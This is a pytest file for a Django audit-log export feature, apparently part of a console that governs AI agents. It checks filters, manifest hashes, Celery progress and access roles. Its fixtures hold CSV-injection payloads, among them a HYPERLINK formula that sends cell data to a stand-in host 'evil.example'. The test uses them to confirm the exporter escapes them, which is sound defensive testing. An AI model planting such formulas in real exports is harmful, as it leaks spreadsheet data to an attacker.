"""Exports of the audit log (SPEC §7): filters honoured, every §6.1 field, CSV injection
escaped, .xlsx equal to the CSV, a manifest whose hash matches the file, an
``export.created`` event, and big exports as a Celery task with progress."""

from __future__ import annotations

import csv
import hashlib
import io
import subprocess
import sys

import openpyxl
import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from audit import exportformat, services
from audit.filters import LogFilter
from audit.models import Checkpoint, Export, GovernanceEvent
from audit.selectors import event_document
from audit.services import record
from tests.audit.synthetic import Step, governed_session, procurement_steps
from tests.helpers import client_for, events_of, integrate

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def eager_tasks(monkeypatch):
    """Run Celery tasks in-process, also in production mode (a real worker is
    test_a_worker_runs_a_big_export_from_the_exports_queue)."""
    from console.celery import app

    monkeypatch.setitem(app.conf, "task_always_eager", True)


@pytest.fixture
def story(make_agent):
    procurement = make_agent("procurement", tier=3)
    other = make_agent("helpdesk", tier=1)
    governed_session(procurement, procurement_steps(), end="halted")
    governed_session(
        other,
        [Step("ticket.reply", HYPERLINK, args={"text": "+1 555 0100"}, reason="@SUM(A1:A9)")],
    )
    with transaction.atomic():
        record("test.note", actor="system:test", workflow_id="-2+3", reason="\tTAB first")
        record("test.note", actor="system:test", reason="\nline first", payload={"x": "=1+1"})
    integrate()
    return {"procurement": procurement, "other": other}


@pytest.fixture
def compliance(client, make_operator):
    user = make_operator("compliance")
    client.force_login(user)
    return client


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def expected_row(event: GovernanceEvent) -> list[str]:
    document = event_document(event)
    action = (
        (document["payload"].get("action") or {}) if event.event_type == "action.evaluated" else {}
    )
    values = [document[name] for name in exportformat.FIELDS if name != "payload"]
    values.insert(exportformat.FIELDS.index("payload"), event.payload_json)
    values += [
        action.get("name"),
        action.get("target"),
        action.get("amount"),
        action.get("currency"),
    ]
    return [
        "" if v is None else exportformat.escape(v) if isinstance(v, str) else str(v)
        for v in values
    ]


def download(response) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")[:400]
    return b"".join(response.streaming_content)


def test_csv_export_holds_every_field_of_the_filtered_events_in_seq_order(compliance, story):
    agent = story["procurement"]
    response = compliance.post("/audit/export/", {"agent": str(agent.id), "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(download(response))
    assert tuple(rows[0]) == exportformat.COLUMNS
    events = list(
        GovernanceEvent.objects.filter(agent_id=agent.id).select_related("log").order_by("log__seq")
    )
    assert rows[1:] == [expected_row(e) for e in events]
    assert [int(r[0]) for r in rows[1:]] == sorted(int(r[0]) for r in rows[1:])


@pytest.mark.parametrize(
    ("params", "check"),
    [
        ({"verdict": "BLOCK"}, lambda e: e.verdict == "BLOCK"),
        ({"event_type": "approval.decided"}, lambda e: e.event_type == "approval.decided"),
        ({"q": "globex"}, lambda e: "globex" in (e.payload_json + e.reason).lower()),
        ({"actor": "system:test"}, lambda e: e.actor == "system:test"),
    ],
    ids=["verdict", "type", "text", "actor"],
)
def test_the_api_export_honours_the_filter(story, make_operator, params, check):
    client = client_for(make_operator("compliance"))
    rows = read_csv(download(client.get("/api/v1/events/export.csv", params)))[1:]
    up_to = Export.objects.get().up_to_seq  # not the export.created event recorded after
    events = GovernanceEvent.objects.filter(log__seq__lte=up_to).order_by("log__seq")
    expected = [e for e in events if check(e)]
    assert rows and [r[1] for r in rows] == [str(e.id) for e in expected]


def test_cells_that_could_run_as_formulas_are_prefixed(compliance, story):
    rows = read_csv(download(compliance.post("/audit/export/", {"format": "csv"})))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells  # the action's target, read from the payload
    assert "'@SUM(A1:A9)" in cells  # a reason
    assert "'-2+3" in cells  # a workflow id
    assert "'\tTAB first" in cells and "'\nline first" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    # A payload is JSON text: it starts with "{" and is kept byte for byte.
    assert any('"x":"=1+1"' in c for c in cells)


def test_xlsx_opens_with_openpyxl_and_has_the_same_rows_as_the_csv(story, make_operator, tmp_path):
    client = client_for(make_operator("compliance"))
    # Filtered by agent, so the first export's own export.created is not in the second.
    agent = {"agent": str(story["other"].id)}
    csv_rows = read_csv(download(client.get("/api/v1/events/export.csv", agent)))
    response = client.get("/api/v1/events/export.xlsx", agent)
    data = download(response)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    (tmp_path / "export.xlsx").write_bytes(data)
    book = openpyxl.load_workbook(tmp_path / "export.xlsx", read_only=True)
    sheet = book["events"]
    xlsx_rows = [
        ["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)
    ]
    assert xlsx_rows == csv_rows and len(csv_rows) > 5
    assert any(HYPERLINK in cell for row in xlsx_rows for cell in row)
    assert isinstance(next(sheet.iter_rows(min_row=2, values_only=True))[0], int)  # seq


def test_the_manifest_hash_matches_the_file_and_the_export_is_an_event(compliance, story):
    data = download(compliance.post("/audit/export/", {"result": "denied", "format": "csv"}))
    export = Export.objects.get()
    assert export.status == "done" and export.streamed
    event = events_of("export.created")[-1]
    manifest = event.payload
    assert manifest == export.manifest
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["bytes"] == len(data)
    rows = read_csv(data)[1:]
    assert manifest["row_count"] == len(rows) == 2
    assert (manifest["first_seq"], manifest["last_seq"]) == (int(rows[0][0]), int(rows[-1][0]))
    assert manifest["filters"] == {"result": "denied"}
    assert manifest["columns"] == list(exportformat.COLUMNS)
    checkpoint = Checkpoint.objects.get(tree_size=manifest["checkpoint"]["tree_size"])
    assert checkpoint.tree_size >= manifest["last_seq"]
    assert manifest["checkpoint"] == checkpoint.as_json()
    assert event.actor.startswith("user:compliance")
    # The manifest is also served on its own.
    page = compliance.get(f"/audit/exports/{export.id}/manifest.json")
    assert page.json() == manifest


def test_xlsx_manifest_hash_matches_the_file(story, make_operator):
    client = client_for(make_operator("compliance"))
    data = download(client.get("/api/v1/events/export.xlsx", {"agent": str(story["other"].id)}))
    manifest = Export.objects.get().manifest
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()
    assert client.get(f"/api/v1/exports/{manifest['export_id']}").json()["manifest"] == manifest


def test_exports_hold_integrated_events_up_to_the_start(story, admin_user):
    with transaction.atomic():
        pending = record("test.late", actor="system:test")
    export = services.start_export(LogFilter.parse({}), "csv", by=admin_user)
    assert pending.log.seq <= export.up_to_seq  # drained before counting
    with transaction.atomic():
        record("test.later", actor="system:test")
    integrate()
    rows = read_csv(b"".join(services.stream_csv(export)))[1:]
    assert len(rows) == export.rows_total
    assert "test.later" not in {r[3] for r in rows} and "test.late" in {r[3] for r in rows}


def test_a_stopped_download_is_recorded_as_a_failed_export(story, admin_user, monkeypatch):
    monkeypatch.setattr(services, "EXPORT_BATCH", 3)
    export = services.start_export(LogFilter.parse({}), "csv", by=admin_user)
    stream = services.stream_csv(export)
    next(stream)  # the header and the first 3 rows
    next(stream)  # 3 more
    stream.close()  # the browser went away
    export.refresh_from_db()
    assert export.status == "failed" and "stopped after 6 rows" in export.error
    event = events_of("export.created")[-1]
    assert event.result == "failed" and event.payload["row_count"] == 6


def test_a_big_export_runs_as_a_task_with_progress(
    compliance, story, settings, monkeypatch, django_capture_on_commit_callbacks, eager_tasks
):
    settings.WARDEN_EXPORT_ASYNC_ROWS = 5
    monkeypatch.setattr(services, "EXPORT_BATCH", 4)
    monkeypatch.setattr(services, "EXPORT_PROGRESS_EVERY", 4)
    with (
        CaptureQueriesContext(connection) as queries,
        django_capture_on_commit_callbacks(execute=True) as callbacks,
    ):
        response = compliance.post("/audit/export/", {"format": "csv"})
    assert response.status_code == 302
    export = Export.objects.get()
    assert response["Location"] == f"/audit/exports/{export.id}/"
    assert not export.streamed and export.rows_total > 5
    assert len(callbacks) >= 1  # the task was sent after commit
    progress = [
        q["sql"]
        for q in queries.captured_queries
        if q["sql"].startswith("UPDATE") and "rows_done" in q["sql"]
    ]
    assert len(progress) >= export.rows_total // 4  # claim + every 4 rows + done
    assert export.status == "done" and export.rows_done == export.rows_total
    page = compliance.get(f"/audit/exports/{export.id}/?part=progress", HTTP_HX_REQUEST="true")
    body = page.content.decode()
    assert 'value="100"' in body and "hx-trigger" not in body
    assert f"/audit/exports/{export.id}/download/" in body
    data = download(compliance.get(f"/audit/exports/{export.id}/download/"))
    assert hashlib.sha256(data).hexdigest() == export.manifest["sha256"]
    assert len(read_csv(data)) == export.rows_total + 1


def test_a_running_export_page_polls_its_progress(compliance, story, admin_user):
    export = Export.objects.create(
        format="xlsx", status="running", rows_total=200_000, rows_done=60_000, created_by=admin_user
    )
    body = compliance.get(f"/audit/exports/{export.id}/").content.decode()
    assert 'hx-trigger="every 1s"' in body and 'value="30"' in body
    assert "60000 / 200000" in body


def test_the_api_queues_a_big_export_and_reports_it(
    story, make_operator, settings, django_capture_on_commit_callbacks, eager_tasks
):
    settings.WARDEN_EXPORT_ASYNC_ROWS = 5
    client = client_for(make_operator("compliance"))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get("/api/v1/events/export.xlsx")
    assert response.status_code == 202
    body = response.json()
    assert body["status"] in ("queued", "done")
    status = client.get(body["status_url"]).json()
    assert status["status"] == "done" and status["progress_percent"] == 100
    data = download(client.get(status["download_url"]))
    assert hashlib.sha256(data).hexdigest() == status["manifest"]["sha256"]


def test_the_export_task_goes_to_the_exports_queue():
    from console.celery import app

    assert app.amqp.router.route({}, "audit.export_events")["queue"].name == "exports"


def test_an_export_is_claimed_once(story, admin_user, settings):
    settings.WARDEN_EXPORT_ASYNC_ROWS = 1
    export = services.start_export(LogFilter.parse({}), "csv", by=admin_user)
    assert services.run_export(export.id) is not None
    assert services.run_export(export.id) is None  # a redelivered task finds it done
    assert len(events_of("export.created")) == 1


def test_only_export_roles_may_export(client, make_operator, story):
    client.force_login(make_operator("viewer"))
    assert client.post("/audit/export/", {"format": "csv"}).status_code == 403
    assert client_for(make_operator("reviewer")).get("/api/v1/events/export.csv").status_code == 403
    assert not Export.objects.exists()
    assert "export-csv" not in client.get("/audit/").content.decode()


def test_bad_export_requests_are_refused(compliance, story, make_operator):
    assert compliance.post("/audit/export/", {"format": "pdf"}).status_code == 400
    response = client_for(make_operator("compliance")).get(
        "/api/v1/events/export.csv", {"verdict": "x"}
    )
    assert response.status_code == 400 and "verdict" in response.json()["error"]["fields"]


def test_long_cells_are_truncated_in_xlsx_only(tmp_path):
    writer = exportformat.XlsxWriter(str(tmp_path / "long.xlsx"))
    writer.write_rows([(1, "x" * 40_000, "=cmd")])
    writer.close()
    row = next(
        openpyxl.load_workbook(tmp_path / "long.xlsx", read_only=True)["events"].iter_rows(
            min_row=2, values_only=True
        )
    )
    assert len(row[1]) == exportformat.XLSX_MAX_CELL and row[1].endswith("the CSV has it all]")
    assert row[2] == "'=cmd"


def test_the_pure_modules_import_no_django():
    code = (
        "import sys, audit.exportformat, audit.tiles, audit.merkle, audit.canonical; "
        "bad = [m for m in sys.modules if m.split('.')[0] in ('django', 'console', 'rest_framework')]; "
        "print(bad); sys.exit(1 if bad else 0)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_download_closed_before_its_first_row_is_recorded(story, admin_user):
    export = services.start_export(LogFilter.parse({}), "csv", by=admin_user)
    services.stream_csv(export).close()
    export.refresh_from_db()
    assert export.status == "failed" and "before the first row" in export.error
    assert events_of("export.created")[-1].payload["row_count"] == 0
